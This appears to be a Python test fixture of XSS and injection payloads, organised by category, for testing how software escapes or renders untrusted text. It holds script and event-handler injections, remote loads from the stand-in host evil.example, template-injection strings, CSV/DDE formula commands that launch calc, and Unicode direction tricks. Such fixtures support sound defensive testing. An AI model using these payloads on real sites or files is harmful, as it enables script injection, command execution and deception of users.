"""Texts that try to run as script, to break the page, or to fool a reader; each would set off `alert` or load a file.

Made by category, so that a new trick is one line. No payload holds `;` (it parts aliases) unless its category needs it.
"""

from __future__ import annotations

RUN = "alert(1)"
_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus autofocus", "ontoggle open", "onanimationstart", "onpointerenter")
_ELEMENTS = ("img src=x", "svg", "body", "details", "input", "video src=x", "iframe", "marquee", "math", "object data=x")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,", " javascript:", "\u0001javascript:", "view-source:javascript:", "feed:javascript:")  # fmt: skip

CATEGORIES: dict[str, list[str]] = {
    "script tags": [
        f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"</SCRIPT ><sCrIpT>{RUN}</sCrIpT>", f"<script src=data:,{RUN}></script>",
        f"<script\n>{RUN}</script\n>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>", f"<script/x>{RUN}</script>",
        f"<svg><script>{RUN}</script></svg>", "<svg><script>alert&lpar;1)</script>", f"<math><mi><script>{RUN}</script>", f"\ufeff<script>{RUN}</script>",
        f"<noscript><p title=\"</noscript><script>{RUN}</script>\">", f"<template><script>{RUN}</script></template>", f"<xmp></xmp><script>{RUN}</script>",
    ],
    "script states": [
        "<!--<script>", "<!--<script></script>", "<!-- --!><script>", "<script><!--", "--><!--<script>", "<!--<script>--></script>", "<![CDATA[<script>",
        "]]>", "]]><script>alert(1)</script>", "<?xml version='1.0'?>", "<!DOCTYPE html><html>", "</html></body>",
    ],
    "end of the element that holds it": [
        f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</option></select><img src=x onerror={RUN}>",
        f"</td></tr></table><img src=x onerror={RUN}>", f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"\" onmouseover=\"{RUN}", f"' onfocus='{RUN}' autofocus='",
        f"`><img src=x onerror={RUN}>", f"--><img src=x onerror={RUN}>", f"*/{RUN}/*", f"\\u003cimg src=x onerror={RUN}>", f"\\x3cscript>{RUN}", f"</a><img src=x onerror={RUN}>",
    ],
    "event handlers": [f"<{element} {handler}={RUN}>" for element, handler in zip(_ELEMENTS * 2, _HANDLERS * 3, strict=False)],
    "svg and math": [
        f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
        f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x\">",
        f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>", f"<math href=javascript:{RUN}>x</math>", f"<svg><set attributeName=onmouseover to={RUN}>",
    ],
    "addresses": [f"<a href=\"{scheme}{RUN}\">x</a>" for scheme in _SCHEMES] + [f"javascript:{RUN}", "//evil.example/x.js", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
        f"<meta http-equiv=refresh content=\"0,url=javascript:{RUN}\">", f"<form action=javascript:{RUN}><button>x</button></form>", f"<iframe src=javascript:{RUN}>", f"<iframe srcdoc=\"<script>{RUN}</script>\">"],
    "script strings": [
        f"'-{RUN}-'", f"\"-{RUN}-\"", f"\\'-{RUN}//", f"${{{RUN}}}", f"`${{{RUN}}}`", f"\\u0022-{RUN}//", "a\u2028alert(1)\u2029b", "\\", "\\\\", f"\\\"-{RUN}//", "\u0000"[:0] + "__proto__", "constructor", "toString",
        "hasOwnProperty", f"{RUN}//\\", f"function(){{{RUN}}}()",
    ],
    "template braces": [f"{{{{{RUN}}}}}", "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "{%print(7*7)%}", "{#x#}", "<%= 7*7 %>", "#{7*7}", "[[7*7]]", "{}", "{n}", "{name}", "$&", "$`", "$1"],
    "style": [
        "<style>@import'//evil.example/x.css'</style>", "<div style=\"background:url(//evil.example/x)\">", f"x:expression({RUN})", f"</style><img src=x onerror={RUN}>", f"<div style=animation-name:x onanimationstart={RUN}>",
        "url(//evil.example/x)", "red}body{display:none", "position:fixed",
    ],
    "entities": ["&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;b&gt;", "&quot;onclick=alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)"],
    "signs that turn or hide": ["\u202egnp.gpj", "\u2066abc\u2069", "a\u200bb\u200dc", "e\u0301\u0301\u0301\u0301\u0301\u0301", "\U0001f468\u200d\U0001f469", "\u2028", "\u2029x", "\u0085x", "\ufeffx", "\u00a0x", "A" * 5000, "长" * 3000],
    "formulas": ["=1+1", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil.example\",\"x\")", "\uff1d1+1", "\uff0b1", "|calc", "  =1+1", "=IMPORTXML(1)", "-2+3+cmd|' /C calc'!A0", "=\"a\",\"b\""],
}  # fmt: skip
PAYLOADS = [text for texts in CATEGORIES.values() for text in texts]
